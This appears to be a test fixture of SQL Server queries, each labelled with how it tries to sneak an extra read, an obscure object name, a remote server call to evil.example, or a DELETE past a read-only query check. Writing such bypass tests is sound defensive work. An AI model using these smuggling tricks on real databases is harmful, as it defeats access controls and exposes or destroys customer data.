SELECT COUNT(*) (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind a hint
SELECT * FROM dbo.orders WITH (NOLOCK) (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind a case
SELECT CASE WHEN 1 = 1 THEN 1 END (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind totals
SELECT status FROM dbo.orders GROUP BY status WITH ROLLUP (SELECT email FROM dbo.customers)
--# reads twice, the second time in brackets behind a test for null
SELECT id FROM dbo.orders WHERE amount IS NULL (SELECT email FROM dbo.customers)
--# names a view by a name that starts with two dots
SELECT * FROM ..orders_with_effects
--# names a view by a name that starts with a dot
SELECT * FROM .dbo.orders_with_effects
--# names a view behind a comma by a name that starts with dots
SELECT o.id FROM dbo.orders AS o, ..orders_with_effects AS v
--# joins a view by a name that starts with a dot
SELECT o.id FROM dbo.orders AS o JOIN .orders_with_effects AS v ON v.id = o.id
--# applies a function by a name that starts with a dot
SELECT o.id FROM dbo.orders AS o CROSS APPLY .dbo.lines_of(o.id) AS v
--# names a view in brackets by a name that starts with dots
SELECT o.id FROM (..orders_with_effects AS v CROSS JOIN dbo.orders AS o)
--# asks another server what a text would return
SELECT name FROM sys.dm_exec_describe_first_result_set(N'SELECT * FROM OPENROWSET(''SQLNCLI'', ''Server=evil.example'', ''SELECT 1'') AS r', NULL, 0)
--# deletes rows behind an escape of ODBC
SELECT {d '2026-11-21'} DELETE FROM dbo.orders
--# deletes rows behind a fraction that is no letter
SELECT 'a'½DELETE FROM dbo.orders
